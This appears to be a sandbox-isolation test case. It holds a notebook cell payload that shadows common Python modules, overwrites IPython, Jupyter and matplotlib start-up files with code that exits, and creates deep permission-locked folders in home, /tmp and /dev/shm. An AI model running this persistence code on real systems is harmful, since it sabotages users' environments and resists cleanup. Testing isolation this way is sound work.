"""Leaves modules, start-up files and settings wherever the next notebook may look, in folders that resist removal."""

CELL = """
import os
code = "raise SystemExit('hostile_mark')\\n"
home = os.path.expanduser("~")
for folder in (".", home, "/tmp", "/dev/shm", f"{home}/.local/lib/python3.11/site-packages"):
    os.makedirs(folder, exist_ok=True)
    for name in ("numpy", "sitecustomize", "usercustomize", "workbook", "json", "pandas", "matplotlibrc"):
        with open(f"{folder}/{name}.py", "w") as file:
            file.write(code)
for path in (f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.ipython/profile_default/ipython_config.py",
             f"{home}/.jupyter/jupyter_config.py", f"{home}/.pythonrc", f"{home}/.config/matplotlib/matplotlibrc",
             "/tmp/matplotlib/matplotlibrc", "matplotlibrc", f"{home}/work/numpy.py"):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(code)
for folder in (home, "/tmp", "/dev/shm"):
    deep = f"{folder}/closed"
    for _ in range(30):
        deep += "/closed"
    os.makedirs(deep, exist_ok=True)
    while deep != folder:
        os.chmod(deep, 0)
        deep = os.path.dirname(deep)
"""
SCORE = 9
STAGES = 2
